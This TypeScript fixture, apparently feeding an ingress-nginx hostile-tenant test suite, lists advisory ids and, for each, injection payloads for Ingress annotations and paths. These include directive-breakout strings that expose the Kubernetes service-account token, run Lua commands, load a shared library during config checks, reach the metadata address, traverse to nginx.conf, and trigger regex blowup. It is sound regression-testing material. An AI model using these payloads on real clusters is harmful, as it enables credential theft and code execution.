/**
 * What was published of ingress-nginx, a row each: values that end a line, a block, a string or a comment of its configuration and run
 * what follows, or that name what is another's. Written anew after the advisories; each is of use there only.
 */
export type Payload = {
  /** Those that it is of the kind of. */
  readonly of: readonly string[];
  /** The annotation, or `path` of a rule, or `uid` of the object, as a forged question to the admission webhook has it. */
  readonly at: string;
  readonly text: string;
};

/** Each of these has a payload here (hostile-tenants.test.ts). */
export const advisories = [
  'CVE-2021-25742',
  'CVE-2021-25745',
  'CVE-2021-25746',
  'CVE-2021-25748',
  'CVE-2022-4886',
  'CVE-2023-5043',
  'CVE-2023-5044',
  'CVE-2024-7646',
  'CVE-2025-1097',
  'CVE-2025-1098',
  'CVE-2025-15566',
  'CVE-2025-1974',
  'CVE-2025-24513',
  'CVE-2025-24514',
  'CVE-2026-1580',
  'CVE-2026-24512',
  'CVE-2026-24513',
  'CVE-2026-24514',
  'CVE-2026-3288',
  'CVE-2026-42945',
  'CVE-2026-4342',
] as const;

const token = '/var/run/secrets/kubernetes.io/serviceaccount/';
const library = 'ssl_engine /proc/31/fd/19;';
const huge = 64 * 1024;

const of = (...numbers: readonly string[]) => ({
  /** Values for one place. */
  at: (at: string, ...texts: readonly string[]): readonly Payload[] =>
    texts.map((text) => ({ of: numbers.map((number) => `CVE-${number}`), at, text })),
});

export const payloads: readonly Payload[] = [
  // Snippets are configuration by design.
  ...of('2021-25742', '2023-5043').at(
    'configuration-snippet',
    'content_by_lua_block { os.execute("id") }',
    `alias ${token};`,
    'proxy_pass http://unix:/run/netloom-gateway/nginx.sock:/;',
  ),
  ...of('2021-25742').at('server-snippet', `location /x { alias ${token}; }`),
  ...of('2021-25742').at(
    'stream-snippet',
    'server { listen 9999; proxy_pass unix:/run/netloom-gateway/nginx.sock; }',
  ),
  ...of('2021-25742').at('auth-snippet', 'proxy_set_header X-User admin;'),
  ...of('2021-25742').at('modsecurity-snippet', 'SecRuleEngine Off\nSecRemoteRules a http://a.example/'),
  ...of('2021-25742').at('modsecurity-transaction-id', '$request_id";SecRuleEngine Off'),

  // A path that ends its location, or is a directive itself.
  ...of('2021-25745').at('path', `/a/ { alias ${token}; } location ~* ^/b`, `/a"; alias "${token}`),
  ...of('2021-25748').at('path', `/a\nalias ${token};`, '/a\r\n}\nreturn 200;'),
  ...of('2022-4886').at(
    'path',
    "/a {} log_format x '$http_authorization'; access_log /dev/stdout x; #",
    '/a/(log_format|{})$',
  ),
  ...of('2026-24512').at(
    'path',
    '/a;}\nlocation /x { proxy_pass http://127.0.0.1:10246; }',
    '/a"; return 200 "$http_cookie',
    "/x{}'\\",
  ),
  ...of('2026-4342').at('path', '/a #\n}\nreturn 200;', '/a\n# }}\n'),

  // Values that end their directive.
  ...of('2021-25746').at('upstream-vhost', `a.example"; alias ${token}; "`, 'kubernetes.default.svc'),
  ...of('2021-25746').at('app-root', '/a;}\nreturn 200;'),
  ...of('2021-25746').at('x-forwarded-prefix', '/a";\nreturn 200;', `/\${${token}}`),
  ...of('2021-25746').at('proxy-redirect-from', '~^(.*)$;}'),
  ...of('2021-25746').at(
    'upstream-hash-by',
    '$binary_remote_addr;}\nserver 169.254.169.254',
    '$host$request_uri',
  ),
  ...of('2021-25746').at('server-alias', 'shop.example,*.example,a.example;}', '~^(.*)$'),
  ...of('2021-25746').at('session-cookie-name', 'a; path=/; domain=.example', 'netloom'),
  ...of('2021-25746').at('session-cookie-path', '/;}\n'),
  ...of('2021-25746').at('whitelist-source-range', '0.0.0.0/0;}\nallow all;'),
  ...of('2021-25746').at('cors-allow-origin', '*";add_header a b;', 'https://*.example'),
  ...of('2021-25746').at('canary-by-header-value', '(a+)+$'),
  ...of('2021-25746').at('canary-by-header-pattern', '(a+)+$', '(?{x})'),
  ...of('2021-25746').at('auth-cache-key', '$remote_user$http_authorization";}'),
  ...of('2021-25746').at('fastcgi-params-configmap', 'shop/params'),
  ...of('2023-5044').at(
    'permanent-redirect',
    'http://a.example/;}\nproxy_pass http://127.0.0.1:10246/configuration/backends;#',
    `http://a.example/;} location ~* "^/b" { alias ${token};`,
  ),
  ...of('2023-5044').at('temporal-redirect', 'https://a.example/\r\nSet-Cookie: a=b'),
  // A carriage return hid the rest from a check by lines.
  ...of('2024-7646').at('auth-signin', 'http://a.example/\r;return 200 "$http_cookie";\r#'),
  ...of('2024-7646').at('configuration-snippet', 'return 200;\rreturn 201;'),
  ...of('2024-7646').at('server-alias', 'a.example\r;alias /;\r#'),
  ...of('2024-7646').at('cors-allow-headers', 'X-A\r";add_header X-B "b'),

  // What is tried by `nginx -t`, where a library is loaded that was sent as a body before.
  ...of('2025-1097', '2025-1974').at('auth-tls-match-cn', `CN=abc #(\n){}\n }}\n${library}\n#`, 'CN=(a+)+$'),
  ...of('2025-1098', '2025-1974').at('uid', `a";\n}}}\n${library}\n#`, '../../x;}\nreturn 200;'),
  ...of('2025-1098').at(
    'mirror-target',
    `http://a.example;}\n${library}#`,
    'http://web.shop.svc/$request_uri',
  ),
  ...of('2025-1098').at('mirror-host', 'a.example"; set $proxy_host "kubernetes.default'),
  ...of('2025-24514', '2025-1974').at(
    'auth-url',
    `http://a.example/#;\n}}}\n${library}\n#`,
    'http://a.example/$request_uri";}}\nload_module /tmp/evil.so;',
  ),
  ...of('2025-24514').at('auth-signin', 'http://a.example/"; return 200 "$http_cookie'),
  // Names that become names of files, or of others' objects.
  ...of('2025-24513').at(
    'auth-secret',
    'shop/users',
    'kube-system/bootstrap',
    '../users',
    '../../../../etc/nginx/nginx.conf',
    'evil/../shop/users',
  ),
  ...of('2025-24513').at('auth-tls-secret', 'shop/cert', '../shop/cert', 'infra/cert'),
  ...of('2025-24513').at('proxy-ssl-secret', 'shop/cert', 'infra/cert'),
  ...of('2025-15566').at(
    'auth-proxy-set-headers',
    'shop/headers',
    'kube-system/extension-apiserver-authentication',
    'evil/a;}\nreturn 200;',
  ),
  ...of('2025-15566').at('custom-headers', 'shop/headers', 'evil/a";\nreturn 200;'),

  ...of('2026-1580').at('auth-method', 'GET;}\nreturn 200;#', `POST";\n${library}`),
  // Refusals that become answers of another, who lets everybody in.
  ...of('2026-24513').at('custom-http-errors', '401,403', '404,503;}\nreturn 200;'),
  ...of('2026-24513').at('default-backend', 'web.shop', 'kubernetes.default', 'evil'),
  // Much at once for whoever checks.
  ...of('2026-24514').at('cors-expose-headers', 'a,'.repeat(huge)),
  ...of('2026-24514').at('whitelist-source-range', '10.0.0.0/8,'.repeat(huge / 8)),
  ...of('2026-3288', '2026-42945').at(
    'rewrite-target',
    '/;}\nlocation /x { return 200; }\n#',
    '/$1"; proxy_pass http://kubernetes.default; #',
    `/${'$1?$2'.repeat(400)}`,
  ),
  ...of('2026-4342').at('service-upstream', 'true\n}\n# return 200;'),
];
